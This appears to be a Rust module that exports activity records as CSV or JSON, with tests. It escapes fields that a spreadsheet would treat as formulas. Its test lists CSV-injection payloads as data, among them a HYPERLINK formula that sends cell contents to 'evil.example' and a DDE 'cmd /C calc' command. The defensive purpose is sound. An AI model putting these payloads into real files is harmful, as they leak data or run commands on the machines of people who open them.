//! The record **exported**, for spreadsheets and for programs.
//!
//! Rule: an entry contains no secret, so neither does an export. Names and details may come from servers and files, and
//! a spreadsheet runs whatever looks like a formula: such a field is marked as text.

use serde::{Deserialize, Serialize};
use specta::Type;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use super::{ActivityEntry, Outcome};

/// The form of an export.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, Type)]
#[serde(rename_all = "lowercase")]
pub enum ExportForm {
    /// Comma-separated values (RFC 4180) with a header line.
    Csv,
    /// A JSON array of objects with the same members as the columns of [`ExportForm::Csv`].
    Json,
}

impl ExportForm {
    /// The file extension for this form.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Json => "json",
        }
    }

    /// Writes entries in this form, in their order.
    pub fn write(self, entries: &[ActivityEntry]) -> String {
        match self {
            Self::Csv => csv(entries),
            Self::Json => {
                let rows: Vec<Row<'_>> = entries.iter().map(Row::of).collect();
                let mut text = serde_json::to_string_pretty(&rows).expect("entries are plain text and times");
                text.push('\n');
                text
            }
        }
    }
}

/// What an export says of an entry: the same in every form.
#[derive(Serialize)]
struct Row<'a> {
    at: String,
    action: &'a str,
    outcome: &'a str,
    error_code: Option<&'a str>,
    environment: &'a str,
    service_user: &'a str,
    detail: &'a str,
    times: u32,
    last_at: String,
}

impl<'a> Row<'a> {
    fn of(entry: &'a ActivityEntry) -> Self {
        let outcome = match entry.outcome() {
            Outcome::Succeeded => "succeeded",
            Outcome::Failed => "failed",
        };
        Self {
            at: moment(entry.at),
            action: entry.action.as_str(),
            outcome,
            error_code: entry.error_code.as_deref(),
            environment: &entry.environment_name,
            service_user: &entry.service_user_name,
            detail: &entry.detail,
            times: entry.repeated.map_or(1, |repeated| repeated.times),
            last_at: moment(entry.repeated.map_or(entry.at, |repeated| repeated.last)),
        }
    }
}

/// RFC 4180 §2: lines end with CR LF, the first names the columns.
fn csv(entries: &[ActivityEntry]) -> String {
    let mut text = "at,action,outcome,error_code,environment,service_user,detail,times,last_at\r\n".to_owned();
    for row in entries.iter().map(Row::of) {
        let Row { at, action, outcome, error_code, environment, service_user, detail, times, last_at } = row;
        let times = times.to_string();
        let error_code = error_code.unwrap_or_default();
        let fields = [&at, action, outcome, error_code, environment, service_user, detail, &times, &last_at];
        text.push_str(&fields.map(field).join(","));
        text.push_str("\r\n");
    }
    text
}

fn moment(at: OffsetDateTime) -> String {
    at.format(&Rfc3339).unwrap_or_else(|_| at.unix_timestamp().to_string())
}

/// One field: text that a spreadsheet would run gets a leading apostrophe, which means "this is text"; what RFC 4180 §2
/// requires to be quoted is quoted.
fn field(value: &str) -> String {
    let value = if runs(value) { format!("'{value}") } else { value.to_owned() };
    if value.contains(['"', ',', '\r', '\n']) || value.starts_with('\'') {
        return format!("\"{}\"", value.replace('"', "\"\""));
    }
    value
}

/// Whether a spreadsheet may treat a field as a formula. Leading blanks and control characters are skipped, since some
/// programs trim them; the full-width forms of the signs count, since some programs fold them.
fn runs(value: &str) -> bool {
    let begins = value.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c));
    begins.starts_with(['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{2212}'])
        || value.starts_with(['\t', '\r', '\n'])
}

fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}')
}

#[cfg(test)]
mod tests {
    use time::macros::datetime;

    use super::*;
    use crate::activity::Action;

    fn entry(name: &str, detail: &str, error_code: Option<&str>) -> ActivityEntry {
        ActivityEntry {
            at: datetime!(2026-11-23 14:37:02 UTC),
            action: Action::Mint,
            environment: None,
            environment_name: "Acme".into(),
            service_user: None,
            service_user_name: name.into(),
            error_code: error_code.map(str::to_owned),
            detail: detail.into(),
            repeated: None,
        }
    }

    /// Reads CSV as RFC 4180 §2 has it.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut value, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => value.push(chars.next().expect("it was seen")),
                (true, '"') => quoted = false,
                (true, _) => value.push(c),
                (false, '"') if value.is_empty() => quoted = true,
                (false, ',') => row.push(std::mem::take(&mut value)),
                (false, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    row.push(std::mem::take(&mut value));
                    rows.push(std::mem::take(&mut row));
                }
                (false, _) => value.push(c),
            }
        }
        assert!(value.is_empty() && row.is_empty() && !quoted, "the text ends with its last line");
        rows
    }

    #[test]
    fn csv_reads_back_as_it_was() {
        let odd = "a \"b\", c\r\nd;\té\u{202E}";
        let text = ExportForm::Csv.write(&[entry("deploy-bot", odd, None), entry("", "", Some("clock-ahead"))]);
        let rows = read(&text);
        assert_eq!(
            rows[0],
            ["at", "action", "outcome", "error_code", "environment", "service_user", "detail", "times", "last_at"]
        );
        assert_eq!(
            rows[1],
            ["2026-11-23T14:37:02Z", "mint", "succeeded", "", "Acme", "deploy-bot", odd, "1", "2026-11-23T14:37:02Z"]
        );
        assert_eq!(
            rows[2],
            ["2026-11-23T14:37:02Z", "mint", "failed", "clock-ahead", "Acme", "", "", "1", "2026-11-23T14:37:02Z"]
        );
        assert_eq!(rows.len(), 3);
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        let check = |value: &str, expected: &str| {
            let rows = read(&ExportForm::Csv.write(&[entry(value, "", None)]));
            assert_eq!(rows[1][5], expected, "{value:?}");
        };
        for formula in [
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            " =1",
            "\t=1",
            "\r\n=1",
            "\u{FEFF}=1",
            "\u{202E}=1",
            "\u{FF1D}1",
            "\u{2212}1",
            "\tx",
        ] {
            check(formula, &format!("'{formula}"));
        }
        for plain in ["deploy-bot", "a=b", "1-2", "", "'quoted'", "ß", "100%"] {
            check(plain, plain);
        }
    }

    #[test]
    fn json_has_the_columns_of_csv_and_keeps_text_as_it_is() {
        let entries = [entry("=1", "\u{202E}\"", Some("refused"))];
        let text = ExportForm::Json.write(&entries);
        let rows: Vec<serde_json::Map<String, serde_json::Value>> = serde_json::from_str(&text).expect("it is JSON");
        assert_eq!((rows[0]["service_user"].as_str(), rows[0]["detail"].as_str()), (Some("=1"), Some("\u{202E}\"")));
        let mut columns = read(&ExportForm::Csv.write(&entries)).remove(0);
        columns.sort();
        let mut members: Vec<_> = rows[0].keys().cloned().collect();
        members.sort();
        assert_eq!(members, columns);
        assert_eq!(ExportForm::Json.write(&[]), "[]\n");
    }
}
